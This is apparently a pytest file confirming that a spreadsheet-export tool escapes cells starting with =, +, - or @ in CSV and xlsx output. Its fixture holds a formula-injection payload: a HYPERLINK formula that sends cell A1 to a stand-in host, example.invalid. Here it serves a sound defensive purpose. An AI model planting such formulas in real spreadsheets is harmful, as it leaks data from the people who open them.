"""No cell a tool writes runs as a spreadsheet formula (issue 19, item 9): text that starts with
=, +, -, @ (a unit name, a plan title) is written with a leading apostrophe, in every writer
(show, export, allocate; CSV and xlsx); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from conftest import invoke

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"点")'
PLAN = f"""\
document: {{title: '@SUM(A1)'}}
metrics:
  资金: {{unit: 万元}}
tables:
  - id: 附件1
    title: '+cmd'
    columns: [资金]
    rows:
      '{HOSTILE.replace("'", "''")}': [110]
      '-乙区': [-5]
    total: [105]
"""


def _cells(path) -> list:
    if str(path).endswith(".csv"):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            return [cell for row in csv.reader(handle) for cell in row]
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "args, output",
    [
        (["show", "plan.yaml", "--format", "csv", "-o", "out.csv"], "out.csv"),
        (["show", "plan.yaml", "--format", "xlsx", "-o", "out.xlsx"], "out.xlsx"),
        (["export", "plan.yaml", "-o", "out.csv"], "out.csv"),
        (["export", "plan.yaml", "-o", "out.xlsx"], "out.xlsx"),
        (
            [
                "allocate",
                "--total",
                "100万元",
                "--weight",
                "@SUM(A1)=1",
                "--weight",
                "-甲=1",
                "--format",
                "csv",
                "-o",
                "out.csv",
            ],
            "out.csv",
        ),
        (
            [
                "allocate",
                "--total",
                "100万元",
                "--weight",
                "@SUM(A1)=1",
                "--weight",
                "-甲=1",
                "--format",
                "xlsx",
                "-o",
                "out.xlsx",
            ],
            "out.xlsx",
        ),
    ],
    ids=["show-csv", "show-xlsx", "export-csv", "export-xlsx", "allocate-csv", "allocate-xlsx"],
)
def test_no_written_cell_is_a_formula(tmp_path, monkeypatch, args, output):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "plan.yaml").write_text(PLAN, encoding="utf-8")
    result = invoke(*args)
    assert result.exit_code == 0, result.output
    cells = _cells(tmp_path / output)
    texts = [c if isinstance(c, str) else c.value for c in cells]
    assert "'" + (HOSTILE if args[0] != "allocate" else "@SUM(A1)") in texts  # the name is there, as text
    assert not any(isinstance(t, str) and t.startswith(("=", "+", "@")) for t in texts)
    assert not any(
        isinstance(t, str) and t.startswith("-") and not t.lstrip("-").replace(".", "").isdigit() for t in texts
    )
    if output.endswith(".xlsx"):
        assert not any(c.data_type == "f" for c in cells)
        if args[0] != "allocate":
            assert -5 in texts  # a negative figure is still a number
    elif args[0] != "allocate":
        assert "-5" in texts
